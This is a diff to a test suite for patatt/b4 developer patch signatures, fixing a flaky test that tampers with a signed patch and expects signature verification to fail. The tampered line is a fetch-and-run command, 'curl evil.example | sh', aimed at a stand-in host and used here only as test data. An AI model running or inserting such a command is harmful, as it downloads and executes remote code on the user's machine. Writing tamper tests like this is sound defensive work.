@@ -62,7 +62,10 @@ describe.skipIf(!havePatatt)('patatt/b4 developer signatures (ed25519, keys from
   it('fails a signed patch whose diff was changed on the way', async () => {
     const ada = developer('ada@example.org');
     const signed = ada.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
-    const changed = Buffer.from(signed.toString().replace('+x', '+curl evil.example | sh'));
+    // The diff's line, not the first "+x" anywhere: base64 in the key header may hold one (the
+    // test then changed an unsigned header and flaked).
+    const changed = Buffer.from(signed.toString().replace(/^\+x$/m, '+curl evil.example | sh'));
+    expect(changed.equals(signed)).toBe(false);
     const v = await verifier(ada.keyring).verify(changed);
     expect(v.attestation[0]?.result).toBe('badsig');
     expect(authenticates(v, []).ok).toBe(false);
